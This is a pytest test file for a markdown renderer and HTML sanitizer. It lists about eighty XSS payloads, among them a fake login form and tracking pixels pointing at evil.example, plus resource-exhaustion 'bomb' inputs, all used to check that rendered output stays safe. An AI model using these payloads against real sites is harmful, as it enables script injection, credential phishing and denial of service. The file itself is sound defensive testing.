import contextlib
import re
import threading
import time
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from models_app import limits, markdown, markdown_worker
from models_app.markdown import excerpt, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='position:fixed;inset:0'>covers the page</p>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<input type=text name=password> <input type=image src=x onerror=alert(1)> <input type=checkbox onclick=alert(1)>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<select><option>x</select>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x0A;javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='https://x' target=_blank ping='https://evil.example' rel=opener>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;&#97;vascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](x.png\" onerror=\"alert(1))",
    "![x](x.png \"t\" onerror=alert(1))",
    "![x\"onerror=\"alert(1)](x.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/\\evil.example/pixel.png)",
    "<img src='https://evil.example/x' srcset='https://evil.example/y 2x'>",
    "<div onclick=alert(1) onmouseover='alert(1)'>x</div>",
    "<div hx-get='/models' hx-trigger=load hx-swap=outerHTML>x</div>",
    "<div data-hx-post='/models/x/delete' data-open-on-load data-copy>x</div>",
    "<div id=dialog class='toast dialog'>x</div><p id=main name=forms>x</p>",
    "<a name=body id=toast>x</a><img name=getElementById src=x>",
    "## Heading {: onclick=alert(1) #dialog .toast }",
    "*text*{: onclick=alert(1) }",
    "``` {.python #dialog onclick=alert(1) style=color:red}\nx\n```",
    "```python title=\"<img src=x onerror=alert(1)>\"\nx\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "[^<script>]: x\n\ny[^<script>]",
    "[^1]: <img src=x onerror=alert(1)>\n\nx[^1]",
    "*[x]: \"><script>alert(1)</script>\n\nx",
    "$<img src=x onerror=alert(1)>$ and $$<script>alert(1)</script>$$",
    "\\(<svg onload=alert(1)>\\)",
    "- [x] <script>alert(1)</script>\n- [ ] <input autofocus onfocus=alert(1)>",
    "| <script>alert(1)</script> |\n|:---:|\n| <img src=x onerror=alert(1)> |",
    "https://evil.example/\"onmouseover=\"alert(1)",
    "www.evil.example/<script>alert(1)</script>",
    "<!-- <script>alert(1)</script> --><!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    "<table background='javascript:alert(1)'><tr><td style='x' width='1%' onclick=x>1</td></table>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<template><script>alert(1)</script></template><slot name=x></slot>",
    "<dialog open>x</dialog><marquee onstart=alert(1)>x</marquee><portal src=x>",
    "---\nx: <script>alert(1)</script>\n---\ntext",
    "[TOC]\n\n# <img src=x onerror=alert(1)>\n\n## \"><script>alert(1)</script>",
]  # fmt: skip

ALLOWED = {
    tag: markdown_worker.ATTRIBUTES.get(tag, set()) | {"class", "id"} for tag in markdown_worker.TAGS - {"input", "h1"}
}
ALLOWED["span"] = {"class", "id", "role", "aria-label"}
ALLOWED["img"] = {"src", "alt", "title", "width", "height", "loading"}
ALLOWED["pre"] = {"class", "id", "tabindex"}
ALLOWED["a"] = {"href", "title", "class", "id", "rel"}


class Tags(HTMLParser):
    """What a parser other than the sanitizer's sees in the HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data


WEB_LINK = re.compile(r"(https?|mailto):")


def oracle(html: str) -> str:
    """A second, independent sanitizer with the same lists."""
    return nh3.clean(
        html, tags=set(ALLOWED), attributes=ALLOWED, url_schemes={"http", "https", "mailto"}, link_rel=None,
        strip_comments=True,
    )  # fmt: skip


def without_web_links(tags: Tags) -> list[tuple[str, dict[str, str]]]:
    """The oracle also drops web addresses that no browser could open, which is tidiness, not safety."""
    return [
        (tag, {name: value for name, value in attributes.items() if name != "href" or not WEB_LINK.match(value)})
        for tag, attributes in tags.seen
    ]


def assert_safe(html: str) -> None:
    found = Tags(html)
    for tag, attributes in found.seen:
        assert tag in ALLOWED, html
        for name, value in attributes.items():
            assert name in ALLOWED[tag], html
            if name == "id":
                assert re.match(r"h-|fn", value), html
            if name in {"href", "src"}:
                scheme = re.match(r"[\x00-\x20]*([A-Za-z][\w+.\x00-\x20-]*):", value)
                assert not scheme or scheme[1].lower() in {"http", "https", "mailto"}, html
            if name == "src":
                assert not re.match(r"\w+:|//|.*\\", value), html
        if tag == "a" and not attributes.get("href", "#").startswith("#"):
            assert attributes["rel"] == "nofollow noopener"
    cleaned = Tags(oracle(html))
    assert without_web_links(cleaned) == without_web_links(found), "the oracle removed something"
    assert cleaned.text == found.text


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_leaves_nothing_that_runs_or_pretends(text: str) -> None:
    assert_safe(render(text))
    assert_safe(markdown_worker.sanitize(text))


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_inside_other_markdown_stays_harmless(text: str) -> None:
    assert_safe(
        render(f"# Title\n\n> {text}\n\n- a\n    {text}\n\n| a |\n|---|\n| {text} |\n\n**{text}** [{text}](/x)")
    )


FRAGMENTS = st.sampled_from(
    (
        "<script> </script> <img src=x onerror=y> <a href= javascript: \" ' > < & &#106; ` ``` ~~~ [ ] ( ) ! * _ ~~ $ "
        "$$ \\( <svg> <math> <style> <!-- --> <div id=x class=k> <table> <td> <p> <h1> </p> </div> # - 1. | |- \\n "
        "\\n\\n \\t [^1] [^1]: x: <details> <input type=checkbox> [x] http:// www. a@b.c <math><mi> <noscript> data-x="
    ).split(" ")
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(FRAGMENTS, max_size=14))
def test_no_mixture_of_fragments_gets_through(fragments: list[str]) -> None:
    text = "".join(fragments).replace("\\n", "\n").replace("\\t", "\t")
    if len(text) > 300:
        return
    with contextlib.suppress(RecursionError):  # `render` shows the source then
        assert_safe(markdown_worker.convert(text))


def test_the_usual_markdown_renders() -> None:
    html = render(
        "# Title *x*\n\nA **bold** ~~old~~ H~2~O[^1].\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
        "3. three\n4. four\n\n- [x] done\n- [ ] open\n\n$x^2$\n\n[^1]: A note."
    )
    assert (
        '<h2 id="h-title-x">Title <em>x</em><a href="#h-title-x" title="Link to this section" class="headerlink">#</a>'
        in html
    )
    assert "<strong>bold</strong> <del>old</del> H<sub>2</sub>O" in html
    assert '<th class="align-left">a</th>' in html
    assert '<td class="align-right">2</td>' in html
    assert '<ol start="3">' in html
    assert '<span class="task-mark" role="img" aria-label="done">☑</span> done' in html
    assert '<span class="task-mark" role="img" aria-label="not done">☐</span> open' in html
    assert '<span class="arithmatex">\\(x^2\\)</span>' in html
    assert '<a href="#fn:1" class="footnote-ref">1</a>' in html
    assert '<li id="fn:1">' in html
    assert "<input" not in html
    assert "style=" not in html


def test_code_is_highlighted_with_classes() -> None:
    html = render("```python\ndef f(): ...\n```")
    assert '<div class="language-python highlight">' in html
    assert '<span class="k">def</span>' in html


def test_code_can_be_scrolled_by_key() -> None:
    assert Tags(markdown.render("```\nx\n```")).seen[1] == ("pre", {"tabindex": "0"})


def test_code_of_an_unknown_language_is_shown_plain() -> None:
    assert "a &lt;- b" in render("```nosuchlanguage\na <- b\n```")


def test_highlighted_code_keeps_every_character_and_line() -> None:
    code = '"""a\n<b>\n"""\n\nx = 1  # ü\n'
    lines = markdown.highlight(code, "python").split("\n")
    assert len(lines) == len(code.split("\n"))
    assert all(line.count("<span") == line.count("</span>") for line in lines)
    assert "".join(Tags("\n".join(lines)).text) == code


def test_code_that_can_not_be_highlighted_in_time_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "SECONDS", 0.5)
    with pytest.raises(markdown.RenderingFailed):
        markdown.highlight("x = 1\n" * 2_000_000, "python")
    with pytest.raises(markdown.RenderingFailed):
        markdown.highlight("x", "no-such-language")


def test_bare_addresses_become_links() -> None:
    html = render("see https://example.com/a?b=1&c=2.")
    assert '<a href="https://example.com/a?b=1&amp;c=2" rel="nofollow noopener">' in html


def test_headings_start_below_the_pages_own() -> None:
    html = render("# A\n\n## B\n\n<h1>C</h1>")
    assert re.findall(r"<h(\d)", html) == ["2", "3", "2"]


def test_equal_headings_get_different_anchors() -> None:
    assert re.findall(r'<h\d id="([^"]+)"', render("# A\n\n# A")) == ["h-a", "h-a_1"]


def test_a_remote_picture_becomes_a_link() -> None:
    link = '<a href="https://x.example/a.png" rel="nofollow noopener">Curve</a>'
    assert render("![Curve](https://x.example/a.png)") == f"<p>{link}</p>"


def test_a_remote_picture_inside_a_link_becomes_its_text() -> None:
    html = render("[![build](https://x.example/badge.png)](https://x.example/build)")
    assert html == '<p><a href="https://x.example/build" rel="nofollow noopener">build</a></p>'


def test_a_picture_of_our_own_stays() -> None:
    assert render('![Curve](plots/a b.png "T")').startswith("<p>")
    assert render('![Curve](plots/a.png "T")') == '<p><img src="plots/a.png" alt="Curve" title="T" loading="lazy"></p>'


def test_relative_pictures_can_be_taken_from_a_folder() -> None:
    html = render('![a](plots/a.png) ![b](/static/b.png)\n\n`<img src="x">`')
    resolved = markdown.resolve_images(html, '/files/"x"/')
    assert '<img src="/files/&quot;x&quot;/plots/a.png"' in resolved
    assert '<img src="/static/b.png"' in resolved
    assert '&lt;img src="x"&gt;' in resolved


def test_front_matter_is_shown_as_code() -> None:
    html = render("---\nlicense: mit\n---\n# Title")
    assert '<div class="language-yaml highlight">' in html
    assert '<h2 id="h-title">' in html


@pytest.mark.parametrize("text", ["", "\n", "\x00", "\ud800", "\x02\x03", "a\x0bb", "﻿x"])
def test_odd_text_is_no_error(text: str) -> None:
    assert_safe(render(text))
    excerpt(text)


# Hostile texts: each is quadratic or worse in the parser, endless recursion, or asks for gigabytes.
BOMBS = {
    "brackets": "[" * 90_000,
    "images": "![" * 45_000,
    "links": "[a](" * 22_000,
    "footnotes": "[^" * 45_000,
    "tags": "<b " * 30_000,
    "lists": "1. " * 30_000,
    "quotes": "> " * 45_000,
    "fences": "```\n" * 22_000,
    "emphasis": "*a_" * 30_000,
    "code": "`" * 90_000,
    "lines": '```python hl_lines="1-9999999999"\nx\n```',
    "lexer": "```python\n" + "(" * 80_000 + "\n```",
    "table": "|" * 90_000 + "\n" + "|-" * 40_000,
    "comments": "<!--" * 22_000,
    "headings": "# a\n" * 22_000,
    "small": "[" * 2_000,
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_hostile_text_costs_bounded_time(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "SECONDS", 1.0)
    start = time.monotonic()
    html = render(BOMBS[name])
    excerpt(BOMBS[name])
    assert time.monotonic() - start < 5
    assert_safe(html[:2_000].rpartition("<")[0])


def test_a_text_that_takes_too_long_is_shown_as_written() -> None:
    html = render("[" * 90_000 + "<script>")
    assert html.startswith('<div class="markdown-source"><p class="markdown-note">This text could not be rendered')
    assert "&lt;script&gt;" in html


def test_a_text_that_is_too_long_is_shown_as_written() -> None:
    assert markdown.MAX_LENGTH >= limits.DESCRIPTION
    assert render("x " * 60_000).startswith(markdown.SOURCE_VIEW)


def test_after_a_stopped_process_the_next_text_renders(monkeypatch: pytest.MonkeyPatch) -> None:
    with monkeypatch.context() as patch:
        patch.setattr(markdown, "SECONDS", 0.5)
        assert render("[" * 90_000).startswith(markdown.SOURCE_VIEW)
    assert render("```\nx\n```").startswith('<div class="')


def test_a_waiting_process_that_has_gone_is_replaced() -> None:
    render("```\nx\n```")
    assert markdown._waiting
    for process in markdown._waiting:
        process._process.kill()
        process._process.wait()
    assert "<code>x" in render("```\nx\n```")


def test_only_so_many_processes_render_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "SECONDS", 1.0)
    running, most = 0, 0
    lock = threading.Lock()
    answer = markdown._answer

    def counted(text: str, language: str) -> str:
        nonlocal running, most
        with lock:
            running += 1
            most = max(most, running)
        try:
            return answer(text, language)
        finally:
            with lock:
                running -= 1

    monkeypatch.setattr(markdown, "_answer", counted)
    threads = [threading.Thread(target=render, args=("[" * 50_000,)) for _ in range(5)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert most == markdown.PROCESSES


def test_without_processes_a_long_text_is_shown_as_written(monkeypatch: pytest.MonkeyPatch) -> None:
    def refused(*args: object, **kwargs: object) -> None:
        raise OSError("no more processes")

    monkeypatch.setattr(markdown, "_waiting", type(markdown._waiting)())
    monkeypatch.setattr(markdown.subprocess, "Popen", refused)
    assert render("```\nx\n```").startswith(markdown.SOURCE_VIEW)
    with pytest.raises(markdown.RenderingFailed) as failed:
        markdown.convert("```\nx\n```")
    assert not failed.value.is_lasting
    assert render("*small*") == "<p><em>small</em></p>"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Classifies **iris** by _petal_ `size`.", "Classifies iris by petal size."),
        ("# Iris\n\nClassifies flowers.", "Classifies flowers."),
        ("# Only *a* heading", "Only a heading"),
        ("---\nlicense: mit\n---\n\nText", "Text"),
        ("[![badge](https://a/b.svg)](https://a)\n\nText", "Text"),
        ("![plot](a.png) Text", "Text"),
        ("See [the paper](https://x/y \"T\") and [this][1].\n\n[1]: http://a", "See the paper and this."),
        ("```python\nimport x\n```\nText", "Text"),
        ("| a | b |\n|---|---|\n| 1 | 2 |\n\nText", "Text"),
        ("> quote\n\n- one\n- [x] two\n1. three", "quote one two three"),
        ("a < b & c &amp; d <b>bold</b> <!-- no -->", "a < b & c & d bold"),
        ("snake_case_name and 2*3*4 and \\*star\\*", "snake_case_name and 2*3*4 and *star*"),
        ("Note[^1].\n\n[^1]: below", "Note."),
        ("", ""),
    ],
)  # fmt: skip
def test_an_excerpt_reads_like_the_page(text: str, expected: str) -> None:
    assert excerpt(text) == expected


def test_a_long_excerpt_ends_at_a_word() -> None:
    short = excerpt("word " * 100)
    assert len(short) <= 140
    assert short.endswith(" word…")
    assert len(excerpt("x" * 500)) == 140
    assert excerpt("one two three", length=9) == "one two…"


@pytest.mark.parametrize(
    "token", ["[", "![", "[a](", "<", "<!--", "*", "_", "\\", "`", "&#", "> ", "1. ", "- ", "(<!--"]
)
def test_an_excerpt_of_a_hostile_text_takes_linear_time(token: str) -> None:
    text = token * (100_000 // len(token))
    start = time.monotonic()
    excerpt(text)
    assert time.monotonic() - start < 0.5
